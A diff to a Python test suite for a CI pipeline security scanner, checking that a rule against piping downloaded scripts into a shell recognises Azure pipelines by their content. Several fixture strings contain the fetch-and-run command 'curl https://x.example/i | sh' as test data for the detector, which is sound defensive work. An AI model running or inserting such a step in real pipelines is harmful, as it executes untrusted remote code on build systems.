@@ -15,7 +15,7 @@ from lockgate.errors import ConfigurationError
 from lockgate.model import Confidence, Family, File, Finding, Rule, Severity, Skip, SkipKind
 from lockgate.rules import load
 from lockgate.scanners import ScanContext
-from lockgate.scanners.workflows import SCANNER, wants, zizmor
+from lockgate.scanners.workflows import SCANNER, _session, wants, zizmor
 
 RULES = load([Family.WORKFLOWS]).rules
 WORKFLOW = """name: ci
@@ -62,12 +62,52 @@ def of(rule: str, rows: list[Finding | Skip]) -> list[Finding]:
     ("path", "wanted"),
     [
         (GH, True), ("a/action.yml", True), (".github/dependabot.yml", True), (AZ, True), ("ci/build.yaml", True),
-        (".azure-pipelines/x.yml", True), ("deploy/k8s.yml", True), ("values.yaml", False), (".gitlab-ci.yml", False),
-        ("README.md", False),
+        (".azure-pipelines/x.yml", True), ("deploy/k8s.yml", True), ("values.yaml", True), (".gitlab-ci.yml", False),
+        ("docker-compose.yml", False), ("node_modules/a/b.yml", False), ("README.md", False),
     ],
 )  # fmt: skip
 def test_files_are_wanted_by_path(path: str, wanted: bool) -> None:
     assert wants(path, 100) is wanted
+
+
+STEP = "displayName: fetch\n  bash: curl https://x.example/i | sh\n"
+ODD = "shop/eu/main.yml"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        PIPELINE,
+        f"pool: {{vmImage: ubuntu-latest}}\nsteps:\n- {STEP}",
+        f"parameters: []\nsteps:\n- task: Npm@1\n- {STEP}",
+        "stages:\n- stage: a\n  jobs:\n  - job: b\n    steps:\n    - " + STEP.replace("\n  ", "\n      "),
+    ],
+)
+def test_a_pipeline_is_known_by_its_content_wherever_it_lies(text: str) -> None:
+    assert of("azure-curl-pipe-shell", scan({ODD: text}))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "apiVersion: v1\nkind: List\nsteps:\n- script: curl https://x.example/i | sh\n",
+        "on: push\njobs:\n- job: a\n  steps:\n  - script: curl https://x.example/i | sh\n",
+        "steps:\n- name: gcr.io/a\n  entrypoint: bash\n  script: curl https://x.example/i | sh\n# - script:\n",
+        "kind: pipeline\ntrigger: {}\nsteps:\n- name: a\n  commands: [curl https://x.example/i | sh]\n# task:\n",
+        "stages: [build]\nbuild:\n  script: curl https://x.example/i | sh\n# - script:\n",
+        "steps:\n- command: curl https://x.example/i | sh\n# - script:\n",
+        "extends: [recommended]\nrules: {}\n# template:\n",
+        "jobs:\n- name: a\n  plan:\n  - task: b\n",
+    ],
+)
+def test_a_file_of_another_system_is_no_pipeline(text: str) -> None:
+    assert scan({ODD: text}) == []
+
+
+@pytest.mark.parametrize("text", ["a: [1", "image: x\nreplicas: 2\n", "# steps:\n- task: a\n", ""])
+def test_other_yaml_is_not_even_parsed(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(_session, "compose_all", lambda *_, **__: pytest.fail("it was parsed"))
+    assert scan({ODD: text}) == []
 
 
 def test_lines_are_those_of_the_file_and_steps_are_named() -> None:
